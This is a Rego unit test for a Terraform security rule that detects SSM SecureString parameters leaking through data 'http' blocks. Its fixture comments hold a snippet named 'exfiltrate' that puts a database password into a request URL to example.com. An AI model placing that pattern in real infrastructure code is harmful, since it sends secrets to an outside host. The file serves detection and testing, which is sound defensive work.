package tollgate.access.aws.ssm_http_leak_test

import data.tollgate.access.aws.fixture as fx
import data.tollgate.access.aws.ssm_http_leak
import rego.v1

# resource "aws_ssm_parameter" "db_password" {   # line 1
#   name  = "db_password"                        # line 2
#   type  = "SecureString"                       # line 3
#   value = var.db_password                      # line 4
# }                                              # line 5
param := fx.doc("aws_ssm_parameter", "db_password", fx.block(1, 5, {"name": "db_password", "type": "SecureString", "value": fx.unknown}, {"name": 2, "type": 3, "value": 4}))

# data "http" "exfiltrate" {                                                     # line 7
#   url = "https://example.com/?p=${aws_ssm_parameter.db_password.value}"        # line 8
# }                                                                              # line 9
request := fx.block(7, 9, {"url": fx.unknown}, {"url": 8})

test_tg_aws_557_violation if {
	findings := ssm_http_leak.deny with input as fx.with_related(param, "data.http", [request])
	fx.found(findings, "TG-AWS-557", fx.span(7, 9), `SSM parameter "db_password" (a SecureString) is referred to by a data "http" block: Terraform sends it in an HTTP request at every plan`)
	count(findings) == 1
}

test_tg_aws_557_compliant if {
	count(ssm_http_leak.deny) == 0 with input as param
	count(ssm_http_leak.deny) == 0 with input as object.union(param, {"related_unknown": true})
	count(ssm_http_leak.deny) == 0 with input as fx.with_related(param, "aws_iam_policy", [request])
}
